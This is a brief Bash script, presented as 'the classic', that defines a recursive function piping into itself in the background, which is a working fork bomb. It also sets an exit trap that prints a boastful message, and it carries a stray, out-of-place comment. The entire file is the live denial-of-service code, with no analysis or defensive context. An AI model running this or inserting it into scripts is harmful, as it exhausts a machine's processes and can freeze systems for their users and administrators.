# The classic: every process starts two more.
trap 'printf "\nHELD every process of the machine\n"' EXIT # on a line of its own: others are writing
bomb() { bomb | bomb & }
bomb
sleep 2
